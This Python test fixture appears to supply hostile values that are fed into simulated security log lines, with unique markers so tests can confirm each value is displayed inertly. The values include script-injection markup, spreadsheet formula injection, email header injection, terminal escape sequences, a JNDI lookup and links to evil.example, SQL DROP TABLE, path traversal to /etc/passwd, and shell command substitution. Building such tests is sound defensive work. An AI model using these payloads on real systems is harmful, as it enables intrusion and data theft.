# SPDX-License-Identifier: Apache-2.0
"""What an enemy writes into a log line, and the lines that carry it: one attack a row, each with a marker of its own, so that a test can tell that the
value was really there where it is shown.  Used by tests/scene/hostile.py; the browser's half (tests/web/hostile.mjs) gets the same values as JSON."""
import json
import pathlib
import sys
import unicodedata

sys.path[:0] = [str(pathlib.Path(__file__).resolve().parents[2] / "tools" / "demo")]
import lines as L  # noqa: E402

ESC, BEL, CSI, OSC = "\x1b", "\x07", "\x9b", "\x9d"
RAW = "\udcff\udcfe"  # surrogateescape: the bytes ff fe
# name of the attack → value; § is where the marker goes, so that it is inside what must be inert
ATTACKS = {
    "script": "<script>hit='§'</script>",
    "img": "<img src=x onerror=hit='§'>",
    "close": "</script></td></table><svg/onload=hit='§'>",
    "attribute": "\" onmouseover=\"hit='§'\" x='",
    "javascript": "javascript:window.hit='§'//",
    "template": "{{constructor.constructor('hit=1')()}}§",
    "house": "%s%d{company}{{title}}${name}<%= § %>%(x)s",
    "formula": "=cmd|'/c calc'!A0§",
    "plus": "+HYPERLINK(\"https://evil.example/§\")",
    "minus": "-2+3+cmd|' /C calc'!§",
    "at": "@SUM(1+1)*cmd|'§'",
    "tab": "\t=1+1§",
    "cr": "\r=1+1§",
    "header": "x\r\nBcc: evil@evil.example\r\n\r\nbody §",
    "lf": "x\nBcc: evil@evil.example\nX-§: y",
    "encoded": "=?utf-8?q?=0D=0ABcc:evil@evil.example?=§",
    "ansi": f"{ESC}[2J{ESC}[31m§{ESC}[0m\b\b\b",
    "osc52": f"{ESC}]52;c;ZXZpbA==§{BEL}",
    "osc8": f"{ESC}]8;;https://evil.example/§{ESC}\\click{ESC}]8;;{ESC}\\",
    "c1": f"{CSI}2J{OSC}0;§{BEL}\x90\x85",
    "nul": "a\0b§\0",
    "invalid": f"{RAW}\udcc3(§",
    "overlong": "\udcc0\udcaf\udce0\udc80\udcaf§\udcf0\udc80\udc80\udcaf",
    "cesu": "\udced\udca0\udcbd\udced\udcb8\udc80§\udced\udcbf\udcbf",
    "lone": "\\ud800§\\udfff",
    "bidi": "\u202egnp.§exe\u2066\u202d",
    "rtl": "§ \u05d0\u05d1\u05d2 \u0645\u0644\u0641.exe",
    "zero": "a\u200b\u200d\u2060\ufeff§\u00ad\U000e0041",
    "tower": "Z" + "\u0301\u0316\u0489" * 8 + "§",
    "homograph": "\u0430oba-\uff50\uff43§.\u0435xample",
    "ssml": "<break time='9s'/><say-as>§</say-as>[[inpt PHON]]",
    "press": "press 1 1 1 to confirm 117 § \u3044\u3061\u3092\u304a\u3057\u3066",
    "slack": "<!channel> <https://evil.example/§|click> *b* _i_ `c`",
    "markdown": "[§](https://evil.example) ![x](https://evil.example/y.png) **b**",
    "teams": "\"}],\"actions\":[{\"type\":\"Action.OpenUrl\",\"url\":\"https://evil.example/§\"}]",
    "sql": "' OR 1=1; DROP TABLE incidents;-- §",
    "kql": "§\" or tenant:* | delete",
    "path": "../../../../etc/passwd/§/..\\..\\x",
    "format": "%n%s%p%x%1000000d§",
    "jndi": "${jndi:ldap://evil.example/§}",
    "autolink": "see https://evil.example/§ or www.evil.example evil@evil.example",
    "shell": "$(touch /tmp/§)`id`;|&",
}
COUNT = len(ATTACKS)


def marker(n):
    """Letters and digits only: the same in every escape."""
    return f"mk{n:02d}zq"


VALUES = [text.replace("§", marker(n)) for n, text in enumerate(ATTACKS.values())]


TITLE_MAX = 80  # bytes of a name in a title
assert all(len(v.encode(errors="surrogateescape")) <= TITLE_MAX for v in VALUES), [v for v in VALUES if len(v.encode(errors="surrogateescape")) > TITLE_MAX]


def raw(line):
    """A line's bytes; half a character of JSON is written as JSON writes it."""
    return line.replace("\\\\ud", "\\ud").encode(errors="surrogateescape")


def word(text):
    """Without what ends a field of a line that is no JSON."""
    return "".join(c for c in text if c not in " \t\r\n\"")


def plain(text):
    return text.replace("\n", " ").replace("\r", " ").replace('"', "'")


def on(host, line):
    """A line of machine PC told of another: what the collector reads in front of it stays whole."""
    return line.replace('"PC"', json.dumps(host, ensure_ascii=False))


def told(t, tenant, n):
    """All lines of one attack; its own machine first, then one machine of each source that all attacks share (users differ by their ends, or all
    became one candidate)."""
    v, w, net = VALUES[n], word(VALUES[n]), "10.10" if tenant == "aoba" else "10.20"
    pc = f"{tenant}-pc09.{tenant}.example"
    return [
        on(v, L.process(t, tenant, "PC", f"C:\\T{n}\\powershell.exe", f"powershell.exe -NoP -W Hidden -Enc SQBFAFgA {v}", "C:\\Windows\\explorer.exe", f"explorer {v}", v.replace("@", "a"))),
        L.squid(t + 1, tenant, f"{tenant}-proxy1", f"{net}.20.61", "GET", f"http://203.0.113.77/{w}/x.exe", 200, 84211, w + ".p", mime="application/x-msdownload"),
        L.web(t + 2, tenant, f"{tenant}-web9", "203.0.113.78", "GET", f"/{w}", 404, 162, f"sqlmap {plain(v)}", referer=plain(v)),
        L.zeek(t + 3, tenant, f"{tenant}-zeek1", "dns", f"{net}.20.62", 52000 + n, f"{net}.1.99", 53, proto="udp", query="a" * 48 + "." + v, qtype_name="A", answers=[v]),
        L.alert(t + 4, tenant, f"{tenant}-ids1", "203.0.113.79", 40000 + n, f"{net}.30.99", 80, 2034124, f"EXPLOIT {v}", v, 1, "allowed",
                {"hostname": v, "url": f"/{v}", "http_user_agent": v, "http_method": "POST", "protocol": "HTTP/1.1", "status": 200, "length": 1}),
        L.auth(t + 5, tenant, f"{tenant}-web9", "sshd", 9000 + n, f"Failed password for invalid user {plain(v)}.s from 203.0.113.80 port {42000 + n} ssh2"),
        L.windows(t + 6, tenant, pc, "Microsoft-Windows-Windows Defender/Operational", 1116, "Microsoft-Windows-Windows Defender",
                  {"Threat Name": f"Trojan:{v}", "Path": f"file:_C:\\{v}", "Process Name": v, "Action Name": v, "Detection User": v + ".d"}),
        L.security(t + 7, tenant, f"dc.{tenant}.example", 4625, TargetUserName=v + ".w", TargetDomainName=v, WorkstationName=v, IpAddress=f"{net}.20.63", Status="0xc000006d", LogonType=3),
        L.head(t + 8, w[:60], "app", tenant) + f"a device that calls itself {w}",
        f"{plain(v)} is no line of any source {marker(n)}",
    ]


def long_ones(t, tenant):
    """64 kB of it, where a name stands."""
    n = COUNT
    name = f"{marker(n)}<b>" + "\u3042" * 21000
    return [on(name, L.process(t, tenant, "PC", f"C:\\T{n}\\powershell.exe", f"powershell.exe -W Hidden -Enc SQBFAFgA {name}", name, name, name)), name]


def typed(text):
    """As somebody may send it for a form: Unicode, no half characters."""
    return text.encode(errors="surrogateescape").decode(errors="replace").replace("\\ud800", "").replace("\\udfff", "").replace("\0", "")


def valid(text):
    """What of it is taken: no control characters."""
    return "".join(c for c in typed(text) if c in "\t\n\r" or unicodedata.category(c) != "Cc")
